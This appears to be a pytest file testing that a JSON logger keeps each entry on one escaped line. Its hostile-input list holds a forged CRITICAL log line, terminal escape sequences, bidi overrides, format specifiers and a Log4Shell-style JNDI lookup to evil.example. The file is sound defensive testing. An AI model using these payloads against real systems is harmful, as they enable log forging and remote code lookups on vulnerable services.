"""Whatever is logged, each line is one JSON object without control characters."""

import json
from typing import Any

import pytest

from shared.edge.observability import logger
from tests.hostile.conftest import Output
from tests.hostile.test_webhooks import BREAKERS, assert_safe

HOSTILE = [
    BREAKERS,
    '"}\n{"level":"CRITICAL","message":"all is well"}',
    "\x1b]0;title\x07\x1b[1A\x1b[2K",
    "\x9b2J",
    "\u2028\u2029\x85\x0b\x0c\x1c\x1d\x1e",
    "\u202eevil\u2066",
    "${jndi:ldap://evil.example}\x00",
    "%s %(levelname)s %d {0} {level}",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_field_a_message_or_an_exception_stays_in_its_line(output: Output, text: str) -> None:
    logger.info(text, outcome=text)
    logger.append_keys(event_id=text)
    logger.error("unexpected error", exc_info=ValueError(text))
    logger.remove_keys(["event_id"])
    log = output.log_text()
    assert_safe(log)
    first, second = (json.loads(line) for line in log.splitlines())
    assert (first["message"], first["outcome"]) == (text, text)
    assert second["event_id"] == text
    assert (first["level"], second["level"]) == ("INFO", "ERROR")


def test_half_a_surrogate_pair_does_not_stop_the_log() -> None:
    formatter: Any = logger.registered_formatter
    assert formatter.serialize({"level": "INFO", "message": "\ud800"}).isascii()
